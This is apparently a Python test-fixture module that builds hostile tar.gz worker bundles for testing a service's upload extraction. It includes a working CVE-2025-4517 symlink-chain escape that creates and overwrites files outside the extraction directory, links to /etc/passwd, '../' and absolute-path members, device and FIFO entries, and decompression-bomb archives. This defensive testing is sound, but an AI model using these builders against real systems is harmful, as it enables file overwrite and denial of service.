"""Worker bundles built to break out of the directory they are unpacked into, or to cost far more
unpacked than uploaded. Each returns gzip'd tar bytes, as POST /v1/workers takes them.

Runs under any Python from 3.9 on: the foreign-interpreter tests import it there too.
"""

from __future__ import annotations

import io
import tarfile

SPEC = b"mode: command\ncommand: cat\n"


def _tar(add: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]], *, spec: bool = True) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        if spec:
            add = [_file("cloudtask.yaml", SPEC), *add]
        for item in add:
            if isinstance(item, tuple):
                info, data = item
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(item)
    return buf.getvalue()


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size, info.mode = len(data), 0o644
    return info, data


def _info(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, 0o755
    return info


def symlink_chain(outside_dir: str, *, created: str = "created.txt", existing: str = "existing.txt",
                  payload: bytes = b"written by a bundle\n", levels: int = 16, component: int = 240) -> bytes:
    """The CVE-2025-4517 technique: `levels` short symlinks, each to a directory with a long name,
    so that the real path behind `a/b/c/...` nears PATH_MAX. A symlink under it (its own name
    long) points back up to the extraction root; realpath() cannot resolve it (ENAMETOOLONG) and,
    not strict, carries on lexically. `escape` then points through it to `outside_dir` while
    looking inside, a file is created through `escape`, and an existing file outside is
    overwritten through a hard link made via `escape`. tarfile's "data" filter passes all of it
    on Pythons without the fix."""
    long = "d" * component
    letters = "abcdefghijklmnopqrstuvwxyz"[:levels]
    members: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]] = []
    real = ""
    for letter in letters:
        members.append(_info(f"{real}{long}", tarfile.DIRTYPE))
        members.append(_info(f"{real}{letter}", tarfile.SYMTYPE, long))
        real += f"{long}/"
    short = "/".join(letters)
    loop = f"{short}/{'l' * 254}"
    members.append(_info(loop, tarfile.SYMTYPE, "../" * levels))  # really: the extraction root
    # From the root, enough `..` to reach / whatever the root's depth (extra `..` at / stay at /).
    up = "../" * (levels - 1)
    members.append(_info("escape", tarfile.SYMTYPE, f"{loop}/{up}{outside_dir.strip('/')}"))
    members.append(_file(f"escape/{created}", payload))
    members.append(_info("hardlink", tarfile.LNKTYPE, f"escape/{existing}"))
    members.append(_file("hardlink", payload))
    return _tar(members)


def plain_symlink(target: str = "/etc/passwd") -> bytes:
    return _tar([_info("link", tarfile.SYMTYPE, target)])


def hardlink(target: str = "/etc/passwd") -> bytes:
    return _tar([_info("link", tarfile.LNKTYPE, target)])


def device() -> bytes:
    info = _info("dev", tarfile.CHRTYPE)
    info.devmajor, info.devminor = 1, 3
    return _tar([info])


def fifo() -> bytes:
    return _tar([_info("pipe", tarfile.FIFOTYPE)])


def dotdot(outside_name: str) -> bytes:
    return _tar([_file(f"../../{outside_name}", b"escaped\n")])


def absolute(path: str) -> bytes:
    return _tar([_file(path, b"escaped\n")])


def oversized(total_bytes: int, *, files: int = 4) -> bytes:
    """Zeros: gzip shrinks them ~1000 times, so a small upload declares a large unpacked size."""
    each = total_bytes // files + 1
    return _tar([_file(f"zeros{i}.bin", bytes(each)) for i in range(files)])


def many_files(count: int) -> bytes:
    return _tar([_file(f"f{i}", b"") for i in range(count)])


def deep(depth: int) -> bytes:
    return _tar([_file("/".join(["d"] * depth) + "/leaf", b"x")])


def duplicate() -> bytes:
    return _tar([_file("a.txt", b"one"), _file("a.txt", b"two")])


def file_as_directory() -> bytes:
    return _tar([_file("a", b"a file"), _file("a/b", b"under a file")])
